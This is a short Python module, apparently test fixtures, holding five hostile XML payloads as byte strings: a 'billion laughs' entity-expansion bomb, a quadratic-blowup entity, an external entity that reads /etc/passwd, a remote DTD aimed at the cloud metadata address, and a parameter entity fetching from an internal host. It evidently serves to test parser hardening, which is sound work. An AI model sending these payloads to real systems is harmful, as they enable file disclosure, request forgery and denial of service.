"""XML documents that ruin parsers which believe in document types."""

from __future__ import annotations

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%s;" % (b"" if n == 1 else str(n - 1).encode()) * 10) for n in range(1, 10)
    )
    + b"]><root>&lol9;</root>"
)
EXTERNAL = b'<!DOCTYPE root [<!ENTITY secret SYSTEM "file:///etc/passwd">]><root>&secret;</root>'
REMOTE_DTD = b'<!DOCTYPE root SYSTEM "http://169.254.169.254/x.dtd"><root/>'
PARAMETER = b'<!DOCTYPE root [<!ENTITY % p SYSTEM "http://192.168.1.66/x"> %p;]><root/>'
QUADRATIC = b'<!DOCTYPE root [<!ENTITY a "' + b"a" * 30_000 + b'">]><root>' + b"&a;" * 20_000 + b"</root>"
